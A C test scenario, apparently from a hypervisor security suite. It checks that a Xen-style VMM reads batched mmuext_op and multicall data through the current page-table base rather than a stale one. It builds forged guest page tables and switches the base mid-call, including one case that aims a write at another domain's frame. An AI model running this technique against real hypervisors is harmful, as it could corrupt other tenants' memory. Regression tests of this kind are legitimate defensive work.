/* a11batch (A11; issue 9, finding 2): a batch must read its later elements, and write
 * its results, through the base the vCPU holds at that moment, never through a frame
 * it held when the call began.
 *   scenarios=a11batch shape=<shape> [settle_ms=150]
 * Legitimate tables map three pages in L4 slot 4 (A = 0x20000000000): R0 (the request
 * array or multicall entries), R1 (pdone) and M (a vCPU mask). A forged "L4" F, an
 * ordinary data frame, is the current base X's image with slot 4 pointing at forged
 * L3/L2/L1 frames (also ordinary data) that map the same three addresses to D0 (other
 * requests), T (a target frame) and Mf (another mask). Each batch starts with
 *   UNPIN X; NEW_BASEPTR Y; COPY_PAGE(X <- F)
 * (Y: X's image, a valid L4). From there a VMM that keeps walking X's frame translates
 * slot 4 through the forged tables. Shapes (each reports ok only with the outcome a
 * safe VMM gives):
 *   array         element 3 is PIN_L1_TABLE of a frame beyond RAM in R0 (-EINVAL, pdone
 *                 3) and TLB_FLUSH_LOCAL in D0
 *   order         as array, with NEW_BASEPTR Y before UNPIN X
 *   pdone         every element succeeds; pdone at A + 0x1000: R1 gets 4, and T (a frame
 *                 of this domain that nothing maps) must stay untouched
 *   pdone_foreign as pdone, T is another domain's frame at pfn 1024 (the sentinel's first
 *                 filled frame, found in the M2P), pdone aimed at its word 2; repeated for
 *                 up to 4 such frames, one base switch each
 *   mask          element 3 is TLB_FLUSH_MULTI with the mask at A + 0x2000, in R0 and D0:
 *                 M holds 1 (vCPU 0: accepted), Mf 0xFF (vCPUs the domain lacks: -EINVAL)
 *   mask_invlpg   as mask with INVLPG_MULTI
 *   mc_entries    a multicall whose entries are at A: entry 0 (read before the switch)
 *                 is the mmuext_op that switches, entry 1 is console_io in R0 (refused,
 *                 -EPERM) and an empty mmuext_op in D0
 *   mc_inner      a multicall in the image: entry 0 switches, entry 1 is an mmu_update
 *                 whose request is at A: a misaligned ptr in R0 (-EINVAL), a valid
 *                 rewrite of an entry with its own value in D0
 *   mc_results    a multicall at A of one entry (the switch): its result word must land
 *                 in R0, not in T (which the forged L1 maps at A too)
 *   outside       as pdone, with the forged L2 entry naming a table far outside RAM:
 *                 the VMM must neither fault nor follow it
 *   outside_l3    the same with the forged L3 entry naming it */
#include "hostile.h"

#define SLOT 4
#define A HX_SLOT_VA(SLOT)
#define PDONE_VA (A + 0x1000)
#define MASK_VA (A + 0x2000)
#define OUTSIDE_RAM 0x000FFFFFFFFFF000UL
#define BEYOND_RAM_MFN 0xFFFFFFFFFUL

static uint64_t img[512], legit[512], page[512];
static struct mmuext_op switch_ops[4];
static struct multicall_entry mc[2];
static struct mmu_update upd;

struct a11 {
    const char *shape;
    unsigned long cur;             /* mfn of the current base */
    int cur_pinned;
    unsigned long r0, r1, m;       /* pfns of the real pages */
    unsigned long l1f, d0, t, mf;  /* pfns of the forged L1 and its pages (t: may be foreign, see t_mfn) */
    unsigned long t_mfn;
    unsigned long f;               /* pfn of the forged L4 */
    uint64_t l2f_entry0;           /* what the forged L2 links (outside: beyond RAM) */
    uint64_t l3f_entry0;           /* what the forged L3 links (outside_l3: beyond RAM) */
    unsigned long l2f;
    int t_at_array;                /* mc_results: the forged L1 maps T at A too */
};

static uint64_t rw_entry(unsigned long mfn)
{
    return ((uint64_t)mfn << 12) | PTE_KERNEL_RW;
}

/* The legitimate chain in slot 4 and the forged one, plus F. */
static int setup(struct a11 *a)
{
    a->cur = pt_l4_mfn();
    a->cur_pinned = 1;
    hx_l4_image(img);
    if (img[SLOT] != 0) {
        result_fail("setup", "L4[%d] is not empty", SLOT);
        return 0;
    }
    a->r0 = hx_frame(), a->r1 = hx_frame(), a->m = hx_frame();
    unsigned long l1 = hx_frame(), l2 = hx_frame(), l3 = hx_frame();
    memset(page, 0, sizeof page);
    page[0] = rw_entry(hx_mfn(a->r0));
    page[1] = rw_entry(hx_mfn(a->r1));
    page[2] = rw_entry(hx_mfn(a->m));
    if (!hx_step("fill L1", hx_fill(l1, page)) || !hx_step("pin L1", mmuext_pin(1, hx_mfn(l1))))
        return 0;
    memset(page, 0, sizeof page);
    page[0] = hx_link(l1);
    if (!hx_step("fill L2", hx_fill(l2, page)) || !hx_step("pin L2", mmuext_pin(2, hx_mfn(l2))))
        return 0;
    page[0] = hx_link(l2);
    if (!hx_step("fill L3", hx_fill(l3, page)) || !hx_step("pin L3", mmuext_pin(3, hx_mfn(l3))) ||
        !hx_step("link L3", pt_update_one(((uint64_t)a->cur << 12) + SLOT * 8, hx_link(l3))) ||
        !hx_step("flush", tlb_flush_local()))
        return 0;
    memset((void *)A, 0, 3 * 4096);
    hx_l4_image(legit);   /* X's image with slot 4 linked: every Y is a copy of it */

    a->l1f = hx_frame(), a->d0 = hx_frame(), a->mf = hx_frame(), a->l2f = hx_frame();
    unsigned long l3f = hx_frame();
    a->t = hx_frame();
    a->t_mfn = hx_mfn(a->t);
    memset(page, 0, sizeof page);
    page[0] = a->l2f_entry0 ? a->l2f_entry0 : hx_link(a->l1f);
    if (!hx_step("fill forged L2", hx_fill(a->l2f, page)))
        return 0;
    page[0] = a->l3f_entry0 ? a->l3f_entry0 : hx_link(a->l2f);
    if (!hx_step("fill forged L3", hx_fill(l3f, page)))
        return 0;
    memcpy(img, legit, sizeof img);
    img[SLOT] = hx_link(l3f);
    a->f = hx_frame();
    return hx_step("fill forged L4", hx_fill(a->f, img)) && hx_step("zero T", hx_fill(a->t, 0));
}

/* Points the forged L1 at D0, the target (machine frame t_mfn) and Mf. */
static int aim(struct a11 *a)
{
    memset(page, 0, sizeof page);
    page[0] = rw_entry(a->t_at_array ? a->t_mfn : hx_mfn(a->d0));
    page[1] = rw_entry(a->t_mfn);
    page[2] = rw_entry(hx_mfn(a->mf));
    return hx_step("fill forged L1", hx_fill(a->l1f, page));
}

/* The three operations that leave the current base for a fresh copy Y and put F into
 * the old one (order: NEW_BASEPTR first). Afterwards Y is the current base. */
static int switch_ops_into(struct a11 *a, struct mmuext_op *ops, int base_first, unsigned long *y_out)
{
    unsigned long y = hx_frame();
    if (!hx_step("fill Y", hx_fill(y, legit)))
        return 0;
    unsigned int n = 0;
    if (base_first) {
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, hx_mfn(y), 0);
        ops[n++] = a->cur_pinned ? hx_op(MMUEXT_UNPIN_TABLE, a->cur, 0) : hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
    } else {
        ops[n++] = a->cur_pinned ? hx_op(MMUEXT_UNPIN_TABLE, a->cur, 0) : hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, hx_mfn(y), 0);
    }
    ops[n++] = hx_op(MMUEXT_COPY_PAGE, a->cur, hx_mfn(a->f));
    *y_out = hx_mfn(y);
    return 1;
}

static void became_base(struct a11 *a, unsigned long y)
{
    a->cur = y;
    a->cur_pinned = 0;
}

/* An mmuext_op of 4 at A (R0), element 3 `real` there and `forged` in D0, pdone at
 * PDONE_VA + pdone_off. Returns the answer; *pdone gets what R1 holds afterwards. */
static long ext_round(struct a11 *a, int base_first, struct mmuext_op real, struct mmuext_op forged,
                      unsigned int pdone_off, rw_u32 *pdone)
{
    struct mmuext_op *ops = (struct mmuext_op *)A;
    unsigned long y;
    if (!aim(a) || !switch_ops_into(a, ops, base_first, &y))
        return 1;
    ops[3] = real;
    memset(page, 0, sizeof page);
    memcpy((char *)page + 3 * sizeof(struct mmuext_op), &forged, sizeof forged);
    if (!hx_step("fill D0", hx_fill(a->d0, page)))
        return 1;
    volatile rw_u32 *p = (volatile rw_u32 *)(PDONE_VA + pdone_off);
    *p = 0xFFFFFFFFU;
    long rc = hx_ops(ops, 4, (rw_u32 *)p);
    became_base(a, y);
    *pdone = *p;
    return rc;
}

/* T's first words, read back (T is this domain's). */
static uint64_t t_word(struct a11 *a, int i)
{
    if (hx_read(a->t, page))
        return ~0UL;
    return page[i];
}

static void shape_array(struct a11 *a, int base_first)
{
    rw_u32 done;
    long rc = ext_round(a, base_first, hx_op(MMUEXT_PIN_L1_TABLE, BEYOND_RAM_MFN, 0),
                        hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0), 0, &done);
    check_true(base_first ? "order.element3_from_own_tables" : "array.element3_from_own_tables",
               rc == -RW_EINVAL && done == 3,
               "answered %s with pdone %x (own tables give -EINVAL and 3: element 3 was read elsewhere)",
               rc_name(rc), done);
}

static void shape_pdone(struct a11 *a, int outside)
{
    rw_u32 done;
    long rc = ext_round(a, 0, hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0), hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0), 0, &done);
    const char *check = outside ? "outside.pdone_written" : "pdone.pdone_written";
    check_true(check, rc == 0 && done == 4, "answered %s, pdone at its address %x (expected 0 and 4)", rc_name(rc),
               done);
    uint64_t t0 = t_word(a, 0);
    check_true(outside ? "outside.nothing_else_written" : "pdone.nothing_else_written", t0 == 0,
               "a frame nothing maps writable (mfn %lx) now holds %lx", a->t_mfn, (unsigned long)t0);
}

static void shape_pdone_foreign(struct a11 *a)
{
    unsigned long targets[4];
    int n = hx_foreign_frames(HX_SENTINEL_PFN, 1, targets, 4);
    if (!check_true("pdone_foreign.target_found", n > 0, "no other domain has a frame at pfn %lx", HX_SENTINEL_PFN))
        return;
    for (int i = 0; i < n; i++) {
        a->t_mfn = targets[i];
        rw_u32 done;
        long rc = ext_round(a, 0, hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0), hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0), 16, &done);
        char check[48];
        snprintf(check, sizeof check, "pdone_foreign.round%d", i);
        check_true(check, rc == 0 && done == 4,
                   "answered %s, pdone at its address %x (expected 0 and 4): the count went to machine frame %lx, "
                   "another domain's", rc_name(rc), done, targets[i]);
    }
}

static void shape_mask(struct a11 *a, int invlpg)
{
    *(volatile uint64_t *)MASK_VA = 1;   /* vCPU 0 */
    memset(page, 0, sizeof page);
    page[0] = 0xFF;
    if (!hx_step("fill Mf", hx_fill(a->mf, page)))
        return;
    struct mmuext_op op = invlpg ? hx_op(MMUEXT_INVLPG_MULTI, A, MASK_VA) : hx_op(MMUEXT_TLB_FLUSH_MULTI, 0, MASK_VA);
    rw_u32 done;
    long rc = ext_round(a, 0, op, op, 0, &done);   /* the same element in D0: only the mask differs */
    check_true(invlpg ? "mask_invlpg.mask_from_own_tables" : "mask.mask_from_own_tables", rc == 0 && done == 4,
               "answered %s, pdone %x (own tables give 0 and 4: the mask was read elsewhere)", rc_name(rc), done);
}

static void mc_switch_entry(struct multicall_entry *e, struct a11 *a, unsigned long *y)
{
    if (!aim(a) || !switch_ops_into(a, switch_ops, 0, y))
        return;
    hx_mc_ext(e, switch_ops, 3);
}

static void shape_mc_entries(struct a11 *a)
{
    struct multicall_entry *e = (struct multicall_entry *)A;
    unsigned long y = 0;
    mc_switch_entry(&e[0], a, &y);
    memset(&e[1], 0, sizeof e[1]);
    e[1].op = __HYPERVISOR_console_io;
    e[1].result = 0x5E57;
    memset(page, 0, sizeof page);
    struct multicall_entry *fe = (struct multicall_entry *)page;
    hx_mc_ext(&fe[1], switch_ops, 0);   /* an empty mmuext_op: accepted */
    if (!y || !hx_step("fill D0", hx_fill(a->d0, page)))
        return;
    long rc = HYPERVISOR_multicall(e, 2);
    became_base(a, y);
    check_true("mc_entries.entry1_from_own_tables",
               rc == -RW_EPERM && (long)e[0].result == 0 && (long)e[1].result == -RW_EPERM,
               "answered %s, results %s %s (own tables: -EPERM, 0, -EPERM)", rc_name(rc), rc_name((long)e[0].result),
               rc_name((long)e[1].result));
}

static void shape_mc_inner(struct a11 *a)
{
    unsigned long y = 0;
    mc_switch_entry(&mc[0], a, &y);
    if (!y)
        return;
    uint64_t self = pt_l1_entry_maddr((unsigned long)window_va(TG_SLOT_ATTACK2));
    struct mmu_update *real = (struct mmu_update *)A;
    real->ptr = self | 4 | MMU_NORMAL_PT_UPDATE;   /* misaligned: -EINVAL */
    real->val = virt_to_machine(window_va(TG_SLOT_ATTACK2)) | PTE_KERNEL_RW;
    upd.ptr = self | MMU_NORMAL_PT_UPDATE;          /* its own value again: accepted */
    upd.val = real->val;
    memset(page, 0, sizeof page);
    memcpy(page, &upd, sizeof upd);
    if (!hx_step("fill D0", hx_fill(a->d0, page)))
        return;
    memset(&mc[1], 0, sizeof mc[1]);
    mc[1].op = __HYPERVISOR_mmu_update;
    mc[1].result = 0x5E57;
    mc[1].args[0] = A;
    mc[1].args[1] = 1;
    mc[1].args[3] = DOMID_SELF;
    long rc = HYPERVISOR_multicall(mc, 2);
    became_base(a, y);
    check_true("mc_inner.request_from_own_tables", rc == -RW_EINVAL && (long)mc[1].result == -RW_EINVAL,
               "answered %s, inner result %s (own tables: -EINVAL twice)", rc_name(rc), rc_name((long)mc[1].result));
}

static void shape_mc_results(struct a11 *a)
{
    struct multicall_entry *e = (struct multicall_entry *)A;
    unsigned long y = 0;
    a->t_at_array = 1;
    mc_switch_entry(&e[0], a, &y);
    memset(page, 0x77, sizeof page);
    if (!y || !hx_step("fill T", hx_fill(a->t, page)))
        return;
    long rc = HYPERVISOR_multicall(e, 1);
    became_base(a, y);
    uint64_t t1 = t_word(a, 1);
    check_true("mc_results.result_at_its_entry", rc == 0 && (long)e[0].result == 0,
               "answered %s, result word %lx (expected 0 and 0)", rc_name(rc), (unsigned long)e[0].result);
    check_true("mc_results.nothing_else_written", t1 == 0x7777777777777777UL,
               "a frame nothing maps writable (mfn %lx) now holds %lx at word 1", a->t_mfn, (unsigned long)t1);
}

void scenario_a11batch(struct start_info *si)
{
    static char shape[24];
    if (cmdline_get(si, "shape", shape, sizeof shape) < 0)
        memcpy(shape, "array", 6);
    struct a11 a;
    memset(&a, 0, sizeof a);
    a.shape = shape;
    if (strcmp(shape, "outside") == 0)
        a.l2f_entry0 = OUTSIDE_RAM | HX_TABLE;
    if (strcmp(shape, "outside_l3") == 0)
        a.l3f_entry0 = OUTSIDE_RAM | HX_TABLE;
    frames_free();
    if (!hx_handlers() || !setup(&a))
        return;
    hx_machine_frames();
    hx_settle((unsigned long)cmdline_get_long(si, "settle_ms", 150));
    if (strcmp(shape, "array") == 0)
        shape_array(&a, 0);
    else if (strcmp(shape, "order") == 0)
        shape_array(&a, 1);
    else if (strcmp(shape, "pdone") == 0)
        shape_pdone(&a, 0);
    else if (strcmp(shape, "outside") == 0 || strcmp(shape, "outside_l3") == 0)
        shape_pdone(&a, 1);
    else if (strcmp(shape, "pdone_foreign") == 0)
        shape_pdone_foreign(&a);
    else if (strcmp(shape, "mask") == 0)
        shape_mask(&a, 0);
    else if (strcmp(shape, "mask_invlpg") == 0)
        shape_mask(&a, 1);
    else if (strcmp(shape, "mc_entries") == 0)
        shape_mc_entries(&a);
    else if (strcmp(shape, "mc_inner") == 0)
        shape_mc_inner(&a);
    else if (strcmp(shape, "mc_results") == 0)
        shape_mc_results(&a);
    else
        result_fail("shape", "unknown shape \"%s\"", shape);
}
